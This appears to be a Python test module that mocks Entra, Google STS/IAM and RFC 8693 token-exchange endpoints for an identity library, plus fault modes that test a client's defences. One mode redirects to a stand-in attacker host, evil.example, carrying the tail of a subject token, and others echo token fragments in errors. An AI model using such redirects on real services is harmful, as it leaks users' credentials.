# SPDX-License-Identifier: LGPL-2.1-or-later
# Copyright The agentid authors
"""Entra, Google and a token exchange, each checking every field that its documentation has; the host as
an issuer, published; and each fault of wrong.py at each of them and at sts.py."""

import datetime
import json
import secrets
import time

import jose
import modes as m
import sts
import trust

TENANT = "11111111-2222-4333-8444-555555555555"
APP = "aaaaaaaa-bbbb-4ccc-8ddd-eeeeeeeeeeee"
AZURE_AUDIENCE = "api://AzureADTokenExchange"
SCOPE = "https://vault.azure.net/.default"
PROVIDER = "//iam.googleapis.com/projects/123/locations/global/workloadIdentityPools/pool-1/providers/host-1"
ACCOUNT = "reports@proj-1.iam.gserviceaccount.com"
CLOUD_PLATFORM = "https://www.googleapis.com/auth/cloud-platform"
TYPE = "urn:ietf:params:oauth:token-type:"
FORM = "application/x-www-form-urlencoded"


# ---- this host as an issuer: what agentid issuer publish writes ----

def host_discovery(_, connection, request):
    return m.reply(connection, 200, {
        "issuer": request.issuer, "jwks_uri": request.issuer + "/jwks", "response_types_supported": ["id_token"],
        "subject_types_supported": ["public"], "id_token_signing_alg_values_supported": ["RS256", "ES256"],
        "claims_supported": ["iss", "sub", "aud", "exp", "iat", "nbf", "jti"]})


def host_jwks(server, connection, _):
    keys = [{**jose.jwk(key, jose.thumbprint(key)), "alg": alg}
            for key, alg in ((server.host_keys["host"], "ES256"), (server.host_keys["host-rs"], "RS256"))]
    return m.reply(connection, 200, {"keys": keys}, "Cache-Control: public, max-age=300")


def once(server, kind, claims):
    """False for a jti that was seen before."""
    used = server.variables.setdefault(kind + "-used", set())
    with server.lock:
        fresh = claims["jti"] not in used
        used.add(claims["jti"])
    return fresh


# ---- Entra ----

def entra_error(connection, number, error="invalid_client", status=401):
    return m.reply(connection, status, {
        "error": error, "error_description": f"AADSTS{number}: words. Trace ID: t", "error_codes": [number],
        "timestamp": "2026-01-02 03:04:05Z", "trace_id": "t", "correlation_id": "9d5a7c0e-corr"})


def entra_assertion(server, request, form):
    """0, or the AADSTS number of what is wrong with it."""
    try:
        credential = server.variables.get("entra-trust") or trust.AzureTrust({
            "name": "a", "issuer": request.base + "/hostid", "subject": m.SUBJECT, "audiences": [AZURE_AUDIENCE]})
        header, claims = sts.verified(form["client_assertion"], {credential.issuer})
    except sts.Refused as refused:
        return 700211 if "provider found" in str(refused) else 50027
    now = time.time()
    if header["alg"] != "RS256":
        return 50027
    if not isinstance(claims.get("aud"), str):
        return 700212
    if credential.number(claims):
        return credential.number(claims)
    if not claims.get("nbf", 0) <= now < claims["exp"] or not once(server, "entra", claims):
        return 700024
    return 0


def entra(server, connection, request):
    form = request.form()
    wanted = {"client_id": APP, "scope": SCOPE, "grant_type": "client_credentials",
              "client_assertion_type": "urn:ietf:params:oauth:client-assertion-type:jwt-bearer"}
    _, _, tenant, rest = request.path.split("/", 3)
    if tenant != TENANT:
        return entra_error(connection, 90002, "invalid_request", 400)
    if request.method != "POST" or rest != "oauth2/v2.0/token" or request.headers.get("content-type") != FORM \
            or "authorization" in request.headers or set(form) != set(wanted) | {"client_assertion"}:
        return entra_error(connection, 900144, "invalid_request", 400)
    if form["client_id"] != wanted["client_id"]:
        return entra_error(connection, 700016, "unauthorized_client", 400)
    if form["scope"] != wanted["scope"]:
        return entra_error(connection, 500011, "invalid_resource", 400)
    if any(form[k] != v for k, v in wanted.items()):
        return entra_error(connection, 70003, "unsupported_grant_type", 400)
    number = entra_assertion(server, request, form)
    if number:
        return entra_error(connection, number)
    return m.reply(connection, 200, {"token_type": "Bearer", "expires_in": 3599, "ext_expires_in": 3599,
                                     "access_token": "eyJ0eXAi." + secrets.token_urlsafe(200) + ".sig"})


# ---- Google ----

def google_error(connection, error, text, status=400):
    return m.reply(connection, status, {"error": error, "error_description": text})


def google_sts(server, connection, request):
    form = request.form()
    if request.method != "POST" or "authorization" in request.headers or \
            request.headers.get("content-type") != FORM:
        return google_error(connection, "invalid_request", "no unauthorized POST of a form")
    if form.get("grant_type") != "urn:ietf:params:oauth:grant-type:token-exchange" or \
            form.get("requested_token_type") != TYPE + "access_token":
        return google_error(connection, "invalid_request", "grant or requested type")
    if form.get("subject_token_type") == TYPE + "access_token":
        return google_narrow(server, connection, form)
    if set(form) - {"options"} != {"grant_type", "audience", "scope", "requested_token_type", "subject_token",
                                   "subject_token_type"} or form["subject_token_type"] != TYPE + "jwt":
        return google_error(connection, "invalid_request", f"fields {sorted(form)}")
    if form["audience"] != PROVIDER:
        return google_error(connection, "invalid_target", "The target service indicated by the audience")
    if "options" in form and json.loads(form["options"]) != {"userProject": "proj-1"}:
        return google_error(connection, "invalid_request", "options")
    provider = server.variables.get("google-trust") or trust.GoogleTrust(
        request.base + "/hostid", ["https:" + PROVIDER, PROVIDER], {"google.subject": "assertion.sub"},
        f"assertion.sub == '{m.SUBJECT}'")
    try:
        _, claims = sts.verified(form["subject_token"], {provider.issuer})
    except sts.Refused as refused:
        return google_error(connection, "invalid_grant", str(refused))
    now = time.time()
    if not isinstance(claims["aud"], str) or claims["aud"] not in provider.audiences:
        return google_error(connection, "invalid_grant", "The audience in ID Token does not match")
    if claims["iat"] > now or claims["exp"] <= now or claims["exp"] - claims["iat"] > 86400:
        return google_error(connection, "invalid_grant", "times of the ID Token")
    if not provider.lets_in(claims) or not once(server, "google", claims):
        return google_error(connection, "unauthorized_client", "The given credential is rejected by the attribute condition", 401)
    token = "ya29.fed-" + secrets.token_urlsafe(100)
    server.variables.setdefault("google-tokens", {})[token] = form["scope"].split()
    server.variables.setdefault("google-subjects", {})[token] = claims["sub"]
    return m.reply(connection, 200, {"access_token": token, "issued_token_type": TYPE + "access_token",
                                     "token_type": "Bearer", "expires_in": 3599})


def google_narrow(server, connection, form):
    options = json.loads(form.get("options", "{}"))
    if set(form) != {"grant_type", "requested_token_type", "subject_token", "subject_token_type", "options"} or \
            not options["accessBoundary"]["accessBoundaryRules"]:
        return google_error(connection, "invalid_request", f"fields {sorted(form)}")
    if form["subject_token"] not in server.variables.get("google-tokens", {}):
        return google_error(connection, "invalid_grant", "not a token")
    return m.reply(connection, 200, {"access_token": "ya29.dl-" + secrets.token_urlsafe(100),
                                     "issued_token_type": TYPE + "access_token", "token_type": "Bearer"})


def rpc_error(connection, code, status, message):
    return m.reply(connection, code, {"error": {"code": code, "message": message, "status": status, "details": []}})


def google_iam(server, connection, request):
    kind, _, token = request.headers.get("authorization", "").partition(" ")
    scopes = server.variables.get("google-tokens", {}).get(token)
    members = server.variables.get("google-members", {trust.google_member(PROVIDER, m.SUBJECT)})
    member = trust.google_member(PROVIDER, server.variables.get("google-subjects", {}).get(token))
    body = json.loads(request.body)
    seconds = body.get("lifetime", "3600s")
    if kind != "Bearer" or scopes is None:
        return rpc_error(connection, 401, "UNAUTHENTICATED", "no valid credential")
    if request.method != "POST" or request.headers.get("content-type") != "application/json" or \
            set(body) - {"delegates"} != {"scope", "lifetime"} or not seconds.endswith("s"):
        return rpc_error(connection, 400, "INVALID_ARGUMENT", "fields")
    if not request.path.endswith(f"/v1/projects/-/serviceAccounts/{ACCOUNT}:generateAccessToken") or \
            CLOUD_PLATFORM not in scopes or member not in members:
        return rpc_error(connection, 403, "PERMISSION_DENIED",
                         "Permission 'iam.serviceAccounts.getAccessToken' denied on resource (or it may not exist).")
    if not 0 < int(seconds[:-1]) <= 3600:
        return rpc_error(connection, 400, "INVALID_ARGUMENT", "lifetime")
    token = "ya29.c." + secrets.token_urlsafe(200)
    server.variables["google-tokens"][token] = body["scope"]
    server.variables["google-last"] = body
    end = datetime.datetime.utcfromtimestamp(time.time() + int(seconds[:-1])).strftime("%Y-%m-%dT%H:%M:%SZ")
    return m.reply(connection, 200, {"accessToken": token, "expireTime": end})


def google(server, connection, request):
    if request.path.endswith("/v1/token"):
        return google_sts(server, connection, request)
    return google_iam(server, connection, request)


# ---- token exchange (RFC 8693) ----

EXCHANGE_FIELDS = {"grant_type", "subject_token", "subject_token_type", "actor_token", "actor_token_type",
                   "requested_token_type", "audience", "scope", "resource", "client_id", "client_secret"}


def exchange(issued="access_token", **changes):
    def answer(server, connection, request):
        form = request.form()
        if not m.check_post(server, request):
            return m.refuse_client(connection, "no")
        if form.get("grant_type") != "urn:ietf:params:oauth:grant-type:token-exchange" or set(form) - EXCHANGE_FIELDS:
            return m.reply(connection, 400, {"error": "invalid_request", "error_description": "fields"})
        try:
            tokens = {who: sts.verified(form[who + "_token"], {request.base + "/hostid", request.base + "/ok"})[1]
                      for who in ("subject", "actor") if who + "_token" in form}
        except sts.Refused as refused:
            return m.reply(connection, 400, {"error": "invalid_request", "error_description": str(refused)})
        if form["audience"] != "billing-api" or not once(server, "xch", tokens.get("actor", tokens["subject"])):
            return m.reply(connection, 400, {"error": "invalid_target"})
        server.variables["xch-last"] = {k: v for k, v in form.items() if not k.endswith(("_token", "_secret"))}
        more = {"sub": tokens["subject"]["sub"], "aud": form["audience"], **changes}
        if "actor" in tokens:
            more["act"] = {"sub": tokens["actor"]["sub"]}
        return m.reply(connection, 200, m.token_body(m.mint(server, request, **more),
                                                     issued_token_type=TYPE + issued))
    return answer


def echo(part):
    """Repeats the end of a token that it was given."""
    return lambda s, c, r: m.reply(c, 400, {"error": "invalid_request", "error_description":
                                            "bad token ..." + r.form()[part][-20:]})


def echo_location(_, connection, request):
    return m.reply(connection, 302, b"", "Location: https://evil.example/?" + request.form()["subject_token"][-20:])


def variable(name):
    return lambda s, c, r: m.reply(c, 200, s.variables.get(name) or [])


def generic_faults():
    import wrong  # pylint: disable=import-outside-toplevel
    out = {}
    for part in (wrong.refusals, wrong.transports, wrong.bodies, wrong.redirects):
        for name, mode in part().items():
            if "token" in mode:
                out[name] = mode["token"]
    return out


def table():
    out = {"hostid": {"discovery": host_discovery, "jwks": host_jwks},
           "aws": {"any": sts.answer}, "aws-fraction": {"any": sts.answer}, "entra": {"any": entra},
           "google": {"any": google}, "xch": {"token": exchange()}, "xch-issued": {"token": exchange("jwt")},
           "xch-aud": {"token": exchange(aud="other")}, "xch-sub": {"token": exchange(sub="agent:b")},
           "google-denied": {"any": lambda s, c, r: rpc_error(c, 403, "PERMISSION_DENIED", "denied")
                             if "generateAccessToken" in r.path else google_sts(s, c, r)}}
    for part in ("subject_token", "actor_token"):
        out["xch-echo-" + part] = {"token": echo(part)}
    out["xch-echo-location"] = {"token": echo_location}
    for name in ("sts-log", "google-last", "xch-last"):
        out[name] = {"any": variable(name)}
    for name, fault in sts.FAULTS.items():
        out["aws-" + name] = {"any": fault}
    for name, fault in generic_faults().items():
        for kind in ("aws", "entra", "google", "vault"):
            out.setdefault(f"{kind}-{name}", {"any": fault})
        # An exchange has its own body, which those two fill in from the form of another request.
        if name not in ("echo", "clock-token"):
            out["xch-" + name] = {"token": fault}
    return out
